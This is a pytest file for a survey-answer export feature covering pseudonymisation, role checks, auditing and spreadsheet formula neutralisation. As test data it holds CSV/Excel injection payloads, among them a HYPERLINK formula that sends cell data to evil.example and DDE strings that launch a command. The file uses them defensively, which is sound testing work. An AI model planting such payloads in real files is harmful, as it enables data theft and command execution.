"""Exports over HTTP: who may download what, one row per answer with pseudonymous ids and
theme columns, never names, references or held answers, formulas neutralised, Arabic kept,
and every export audited without any of the words."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from itertools import count

import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select

from tests.helpers import raise_alert
from tests.staff.conftest import make_organisation, make_staff, signed_in
from voices.findings.exports.cells import pseudonym
from voices.models import (
    Answer,
    AnswerCoding,
    AuditEvent,
    Consultation,
    LiveSession,
    Organisation,
    Response,
    ThemeMention,
)

_keys = count()
HOSTILE = '=HYPERLINK("http://evil.example","click")'
ARABIC = "أشعر بالأمان في بيتي"
SECRET_WORDS = "Nobody listens to me at my placement"


@pytest.fixture
def consultation(session: Session, org: Organisation) -> Consultation:
    row = Consultation(
        organisation_id=org.id,
        title="Exports test",
        survey_id="all-types",
        join_code="EXP42X",
        frameworks=["shanarri"],
    )
    session.add(row)
    session.commit()
    return row


def add_response(
    session: Session, consultation: Consultation, answers: dict[str, dict | None], **fields
) -> tuple[Response, dict[str, Answer]]:
    n = next(_keys)
    response = Response(
        consultation_id=consultation.id,
        start_key=f"ex-{n}",
        token_hash=f"ext-{n}",
        version=fields.pop("version", "12-17"),
        locale=fields.pop("locale", "en"),
        status=fields.pop("status", "submitted"),
        submitted_at=fields.pop("submitted_at", datetime(2026, 11, 3, 16, 45, tzinfo=UTC)),
        **fields,
    )
    session.add(response)
    session.flush()
    stored = {}
    for qid, value in answers.items():
        stored[qid] = Answer(
            response_id=response.id, question_id=qid, value=value, skipped=value is None
        )
        session.add(stored[qid])
    session.commit()
    return response, stored


def code(session, consultation, answer, themes, reviewed=True, sentiment="negative"):
    session.add(
        AnswerCoding(consultation_id=consultation.id, answer_id=answer.id, sentiment=sentiment)
    )
    for theme in themes:
        session.add(
            ThemeMention(
                consultation_id=consultation.id,
                response_id=answer.response_id,
                answer_id=answer.id,
                question_id=answer.question_id,
                framework="shanarri",
                theme=theme,
                reviewed=reviewed,
                sentiment=sentiment,
            )
        )
    session.commit()


def url(org: Organisation, consultation: Consultation, name: str) -> str:
    return f"/staff/o/{org.slug}/consultations/{consultation.id}/export/{name}"


def read_csv(response) -> list[dict[str, str]]:
    assert response.content.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


@pytest.fixture
def world(session, consultation):
    """Two submitted respondents, one still answering, one answer held by an alert."""
    first, a1 = add_response(
        session,
        consultation,
        {
            "where-live": {"option": "other", "other": "+cmd|' /C calc'!A0"},
            "anything-else": {"text": HOSTILE},
            "feel-safe": {"value": "yes"},
            "likes": {"options": ["sport", "music"]},
            "foster-ok": None,  # skipped: not a row
        },
        respondent_name="Jamie Secretname",
        reference="REF-SECRET-77",
    )
    second, a2 = add_response(
        session,
        consultation,
        {"foster-ok": {"value": 4}, "anything-else": {"text": ARABIC}},
        version="8-11",
        locale="ar",
    )
    held, a3 = add_response(session, consultation, {"anything-else": {"text": SECRET_WORDS}})
    raise_alert(session, a3["anything-else"], consultation)
    add_response(
        session, consultation, {"anything-else": {"text": "unfinished"}}, status="in_progress"
    )
    code(session, consultation, a1["anything-else"], ["safe", "respected"], reviewed=True)
    code(
        session,
        consultation,
        a2["anything-else"],
        ["nurtured"],
        reviewed=False,
        sentiment="positive",
    )
    return {"first": first, "second": second, "held": held, "a1": a1, "a2": a2}


def signed(client, session, org, role):
    return signed_in(client, make_staff(session, org, role))


def test_worker_csv_has_one_row_per_answer_with_pseudonyms_and_theme_columns(
    client, session, org, consultation, world, settings
):
    signed(client, session, org, "worker")
    response = client.get(url(org, consultation, "answers.csv"))
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    disposition = response.headers["content-disposition"]
    assert (
        disposition.startswith("attachment;")
        and f"consultation-{consultation.id}-answers" in disposition
    )
    rows = read_csv(response)
    assert len(rows) == 6  # 4 of the first (one skipped), 2 of the second; none held
    first = pseudonym(settings.secret_key, consultation.id, world["first"].id)
    second = pseudonym(settings.secret_key, consultation.id, world["second"].id)
    assert [r["respondent"] for r in rows] == [first] * 4 + [second] * 2
    assert [r["question_id"] for r in rows[:4]] == [
        "where-live",
        "feel-safe",
        "likes",
        "anything-else",
    ]
    where, safe, likes, text = rows[:4]
    assert where["options"] == "other" and where["option_labels"] == "Somewhere else"
    assert where["text"] == "'+cmd|' /C calc'!A0"  # neutralised
    assert safe["options"] == "yes" and safe["option_labels"] == "Yes"
    assert likes["options"] == "sport; music" and likes["option_labels"] == "Sport; Music"
    assert text["text"] == "'" + HOSTILE
    assert text["question"] == "Is there anything else you want to tell us?"
    assert text["coding"] == "reviewed" and text["sentiment"] == "negative"
    assert text["shanarri:safe"] == "1" and text["shanarri:respected"] == "1"
    assert text["shanarri:nurtured"] == "" and safe["shanarri:safe"] == ""
    assert text["submitted_on"] == "2026-11-03" and text["live_session"] == "no"
    scale, arabic = rows[4:]
    assert scale["scale"] == "4" and scale["version"] == "8-11"
    assert arabic["text"] == ARABIC and arabic["locale"] == "ar"
    assert arabic["coding"] == "suggested" and arabic["shanarri:nurtured"] == "1"


def test_answers_export_never_holds_names_references_ids_or_held_words(
    client, session, org, consultation, world
):
    signed(client, session, org, "worker")
    for name in ("answers.csv", "answers.json", "answers.xlsx"):
        body = client.get(url(org, consultation, name)).content
        for secret in ("Jamie", "Secretname", "REF-SECRET-77", SECRET_WORDS):
            assert secret.encode() not in body, (name, secret)
    rows = read_csv(client.get(url(org, consultation, "answers.csv")))
    assert "respondent_name" not in rows[0] and "reference" not in rows[0]
    assert str(world["first"].id) not in {r["respondent"] for r in rows}


def test_worker_json_parses_and_keeps_text_as_written(client, session, org, consultation, world):
    signed(client, session, org, "worker")
    response = client.get(url(org, consultation, "answers.json"))
    assert response.status_code == 200 and response.headers["content-type"] == "application/json"
    data = json.loads(response.content)
    assert data["consultation"] == consultation.id and "shanarri:safe" in data["themes"]
    texts = {a["text"] for a in data["answers"]}
    assert HOSTILE in texts and ARABIC in texts  # JSON is data: not prefixed
    coded = next(a for a in data["answers"] if a["text"] == HOSTILE)
    assert coded["themes"] == ["shanarri:respected", "shanarri:safe"]
    assert coded["live_session"] is False and coded["scale"] is None


def test_worker_xlsx_opens_with_the_same_rows(client, session, org, consultation, world, tmp_path):
    signed(client, session, org, "worker")
    response = client.get(url(org, consultation, "answers.xlsx"))
    assert response.status_code == 200
    assert "spreadsheetml" in response.headers["content-type"]
    path = tmp_path / "answers.xlsx"
    path.write_bytes(response.content)
    sheet = load_workbook(path)["answers"]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    kinds = {c.data_type for row in sheet.iter_rows() for c in row}
    assert "f" not in kinds
    header = rows[0]
    assert header[:2] == ["respondent", "version"] and "shanarri:safe" in header
    assert len(rows) == 7
    texts = [r[header.index("text")] for r in rows[1:]]
    assert "'" + HOSTILE in texts and ARABIC in texts
    assert [r[header.index("scale")] for r in rows[1:]].count(4) == 1


def test_live_session_answers_say_so(client, session, org, consultation):
    live = LiveSession(organisation_id=org.id, consultation_id=consultation.id, join_code="LIVE99")
    session.add(live)
    session.commit()
    add_response(session, consultation, {"feel-safe": {"value": "no"}}, live_session_id=live.id)
    signed(client, session, org, "worker")
    rows = read_csv(client.get(url(org, consultation, "answers.csv")))
    assert [r["live_session"] for r in rows] == ["yes"]


@pytest.mark.parametrize("role", ["viewer", "admin", "safeguarding"])
@pytest.mark.parametrize("name", ["answers.csv", "answers.xlsx", "answers.json"])
def test_only_workers_export_answers(client, session, org, consultation, world, role, name):
    signed(client, session, org, role)
    response = client.get(url(org, consultation, name))
    assert response.status_code == 403
    assert (
        SECRET_WORDS.encode() not in response.content and HOSTILE.encode() not in response.content
    )


def test_another_organisations_consultation_is_not_found(client, session, org, consultation, world):
    other = make_organisation(session, "other-council")
    signed_in(client, make_staff(session, other, "worker"))
    assert client.get(url(other, consultation, "answers.csv")).status_code == 404


def test_signed_out_goes_to_sign_in(client, org, consultation):
    response = client.get(url(org, consultation, "answers.csv"))
    assert response.status_code == 303 and "/staff/sign-in" in response.headers["location"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_every_answers_export_is_audited_without_words(
    client, session, org, consultation, world, fmt
):
    signed(client, session, org, "worker")
    assert client.get(url(org, consultation, f"answers.{fmt}")).status_code == 200
    event = session.exec(
        select(AuditEvent).where(AuditEvent.action == f"export.answers.{fmt}")
    ).one()
    assert event.target_type == "consultation" and event.target_id == str(consultation.id)
    assert event.detail == {"rows": 6, "suppressed": False}
    assert HOSTILE not in json.dumps(event.detail) and ARABIC not in json.dumps(event.detail)


def test_the_consultation_page_links_every_answers_export(client, session, org, consultation):
    signed(client, session, org, "worker")
    page = client.get(f"/staff/o/{org.slug}/consultations/{consultation.id}")
    assert page.status_code == 200
    for name in ("answers.csv", "answers.xlsx", "answers.json"):
        assert f'href="{url(org, consultation, name)}"' in page.text


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
]


def test_hostile_answers_are_text_in_csv_and_xlsx_and_data_in_json(
    client, session, org, consultation, tmp_path
):
    for payload in PAYLOADS:
        add_response(session, consultation, {"anything-else": {"text": payload}})
    signed(client, session, org, "worker")
    csv_texts = [r["text"] for r in read_csv(client.get(url(org, consultation, "answers.csv")))]
    assert csv_texts == ["'" + p for p in PAYLOADS]
    path = tmp_path / "a.xlsx"
    path.write_bytes(client.get(url(org, consultation, "answers.xlsx")).content)
    sheet = load_workbook(path)["answers"]
    column = [c.value for c in sheet[1]].index("text")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == ["'" + p for p in PAYLOADS]
    assert {c.data_type for c in cells} == {"s"}  # text, never a formula
    data = json.loads(client.get(url(org, consultation, "answers.json")).content)
    assert [a["text"] for a in data["answers"]] == PAYLOADS


def test_themes_follow_the_review_screen_end_to_end(client, session, org, consultation):
    """Through the real pages: the review screen codes the answer (suggestions), a worker's
    review agrees themes, and the export's columns follow each step."""
    _, answers = add_response(
        session, consultation, {"anything-else": {"text": "I never see my brother and I miss him"}}
    )
    answer = answers["anything-else"]
    signed(client, session, org, "worker")
    review = f"/staff/o/{org.slug}/consultations/{consultation.id}/review"
    assert client.get(review).status_code == 200  # codes what is missing: suggestions
    (row,) = read_csv(client.get(url(org, consultation, "answers.csv")))
    assert row["coding"] == "suggested"
    data = {"item": f"answer:{answer.id}", "action": "save", "themes": ["shanarri:safe"]}
    assert client.post(review + "/save", data=data).status_code == 303
    (row,) = read_csv(client.get(url(org, consultation, "answers.csv")))
    assert row["coding"] == "reviewed" and row["shanarri:safe"] == "1"
    assert [k for k, v in row.items() if k.startswith("shanarri:") and v] == ["shanarri:safe"]
